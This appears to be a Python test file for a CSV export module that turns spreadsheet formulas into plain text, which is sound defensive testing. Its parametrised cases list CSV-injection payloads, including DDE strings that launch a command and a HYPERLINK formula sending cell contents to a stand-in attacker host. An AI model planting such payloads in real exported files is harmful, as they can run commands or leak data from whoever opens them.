"""Tables as CSV: nothing in them is calculated by the program that opens them."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workflows.csv_out import Table, guarded, unguarded


def written(*cells: object) -> list[str]:
    out = io.StringIO()
    Table(out).row(cells)
    (row,) = csv.reader(io.StringIO(out.getvalue()))
    return row


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r\n=1+1",
        '  =HYPERLINK("https://evil.example/?"&A1)',
        "\ufeff=1+1",
        "\uff1d1+1",
        "'=1+1",
    ],
)
def test_a_formula_becomes_text(cell: str) -> None:
    (shown,) = written(cell)
    assert shown == f"'{cell}"


def test_names_numbers_and_blanks_stay_as_they_are() -> None:
    assert written("O'Hara", "d'Arc-en-Ciel", -2.5, 7, None, True) == [
        "O'Hara",
        "d'Arc-en-Ciel",
        "-2.5",
        "7",
        "",
        "True",
    ]


@given(st.text(alphabet=st.sampled_from("'=+-@ \t\r\nab\ufeff\uff1d"), max_size=6) | st.text())
def test_every_cell_comes_back(cell: str) -> None:
    assert unguarded(guarded(cell)) == cell
